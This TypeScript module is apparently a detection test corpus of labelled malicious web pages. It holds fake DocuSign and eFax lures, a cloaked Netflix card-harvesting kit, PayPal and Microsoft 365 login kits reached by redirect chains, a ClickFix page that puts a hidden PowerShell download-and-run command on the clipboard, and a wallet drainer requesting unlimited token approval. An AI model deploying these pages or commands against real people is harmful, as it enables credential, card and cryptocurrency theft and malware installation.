import { htmlRoute, redirectRoute, type Entry } from '../entry.js';

/**
 * Lure pages (fake invoice / voicemail / shared-file pages that link onwards to a kit), cloaked kits
 * (user-agent / locale / referrer checks in script), and redirect chains (http 30x, meta refresh, JS).
 */
const kitBody = (title: string, brand: string, action: string): string => `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${title}</title></head>
<body style="font-family:Segoe UI,Arial;background:#f2f2f2"><div style="width:420px;margin:80px auto;background:#fff;padding:40px"><b>${brand}</b><h2>Sign in</h2>
<form method="post" action="${action}"><input type="email" name="username" placeholder="Email"><input type="password" name="password" placeholder="Password"><button>Sign in</button></form></div></body></html>`;

export const entries: Entry[] = [
  {
    id: 'lure-docusign-completed',
    label: 'phishing',
    kind: 'lure',
    url: 'https://docusign.net-envelopes.com/notify/6f2c1a90',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Completed: Please DocuSign: Payroll_Adjustment.pdf</title></head>
<body style="font-family:Helvetica;background:#eaeaea"><div style="width:600px;margin:30px auto;background:#fff"><div style="background:#1e4ca1;color:#fff;padding:30px;text-align:center"><h2>Your document has been completed</h2><a href="https://review-docs.esign-portal.cc/access?id=6f2c1a90" style="background:#ffc820;color:#000;padding:12px 24px;text-decoration:none;font-weight:bold">VIEW COMPLETED DOCUMENT</a></div>
<div style="padding:30px"><p>All parties have completed Please DocuSign: Payroll_Adjustment.pdf.</p><p><b>Do Not Share This Email</b><br>This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.</p></div></div></body></html>`,
  },
  {
    id: 'lure-fax-html-attachment',
    label: 'phishing',
    kind: 'lure',
    url: 'https://efax-inbound-docs.com/fax/FX-902341.html',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>eFax Message</title></head>
<body style="font-family:Arial;background:#fff"><div style="width:560px;margin:40px auto;border:1px solid #ccc;padding:24px"><h2>You have received a 3 page fax</h2><p>Fax ID: FX-902341 · Caller ID: 212-555-0183 · Pages: 3</p>
<p>Click the link below to view your fax. You will be asked to authenticate with your email account.</p><p><a href="https://efax-viewer.secure-auth.top/view?FX-902341">View fax online</a></p><p style="font-size:11px">j2 Global · eFax Corporate</p></div></body></html>`,
  },
  {
    id: 'cloak-bot-shows-blog',
    label: 'phishing',
    kind: 'cloaked-kit',
    url: 'https://tech-news-daily.blog/2026/11/best-laptops',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Best laptops of 2026</title></head>
<body><article><h1>The best laptops of 2026</h1><p>We tested 40 laptops so you don't have to.</p></article>
<template id="k"><div style="font-family:Arial;width:400px;margin:60px auto"><h2>Netflix</h2><p>Your membership is on hold.</p><form method="post" action="/wp-content/uploads/nf/pay.php"><input name="email" placeholder="Email"><input name="password" type="password" placeholder="Password"><input name="cardnumber" placeholder="Card number"><input name="cvv" placeholder="CVV"><button>Update</button></form></div></template>
<script>
if ('ontouchstart' in window && /iPhone|Android/i.test(navigator.userAgent) && navigator.plugins.length === 0 === false) {
  document.body.innerHTML = document.getElementById('k').innerHTML; document.title = 'Netflix';
}
</script></body></html>`,
  },
  {
    id: 'redirect-meta-refresh-kit',
    label: 'phishing',
    kind: 'redirect-chain',
    url: 'https://www.oldtown-bakery-shop.com/promo/winter.html',
    routes: {
      'www.oldtown-bakery-shop.com/promo/winter.html': htmlRoute(`<!DOCTYPE html><html><head><meta charset="utf-8"><meta http-equiv="refresh" content="0; url=https://paypal-resolution.account-case.net/signin?case=PP-991"><title>Redirecting</title></head><body>Please wait…</body></html>`),
      'paypal-resolution.account-case.net/signin': htmlRoute(kitBody('Log in to your PayPal account', 'PayPal', 'https://paypal-resolution.account-case.net/rcv.php')),
    },
  },
  {
    id: 'redirect-js-location-kit',
    label: 'phishing',
    kind: 'redirect-chain',
    url: 'https://bit-link-redirect.com/r/ms365',
    routes: {
      'bit-link-redirect.com/r/ms365': htmlRoute(`<!DOCTYPE html><html><head><title></title></head><body><script>var u='https://office365-login.auth-portal-session.com/?e='+encodeURIComponent(location.hash.slice(1));window.location.replace(u);</script></body></html>`),
      'office365-login.auth-portal-session.com/': htmlRoute(kitBody('Sign in to your account', 'Microsoft 365', '/next.php')),
    },
  },
  {
    id: 'redirect-307-to-clickfix',
    label: 'clickfix',
    kind: 'redirect-chain',
    url: 'https://www.maple-ridge-dentistry.com/wp-login.php?redirect_to=captcha',
    routes: {
      'www.maple-ridge-dentistry.com/wp-login.php': redirectRoute(307, 'https://verify-you-are-human.captcha-cdn.click/v'),
      'verify-you-are-human.captcha-cdn.click/v': htmlRoute(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Verify you are human</title></head><body style="font-family:Arial;text-align:center;padding-top:100px"><label><input type="checkbox" onclick="navigator.clipboard.writeText('powershell -w hidden -c &quot;iwr https://captcha-cdn.click/s.ps1 | iex&quot;');document.getElementById('s').style.display='block'"> I'm not a robot</label>
<div id="s" style="display:none"><p>Press Win + R, then Ctrl + V, then Enter to complete verification.</p></div></body></html>`),
    },
  },
  {
    id: 'redirect-settimeout-drainer',
    label: 'cryptodrainer',
    kind: 'redirect-chain',
    url: 'https://linktr.ee-nft-drop.com/pepe',
    routes: {
      'linktr.ee-nft-drop.com/pepe': htmlRoute(`<!DOCTYPE html><html><head><title>PEPE Airdrop</title></head><body><p>Redirecting to claim page…</p><script>setTimeout(function(){location.href='https://claim.pepe-airdrop.finance/'},1500)</script></body></html>`),
      'claim.pepe-airdrop.finance/': htmlRoute(`<!DOCTYPE html><html><head><title>Claim $PEPE</title></head><body><button id="c">Claim 50,000,000 PEPE</button><script>c.onclick=async()=>{const [a]=await ethereum.request({method:'eth_requestAccounts'});await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:'0x6982508145454Ce325dDbE47a25d4ec3d2311933',data:'0x095ea7b3000000000000000000000000bad0c0ffee0000000000000000000000000000deadffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff'}]});};</script></body></html>`),
    },
  },];
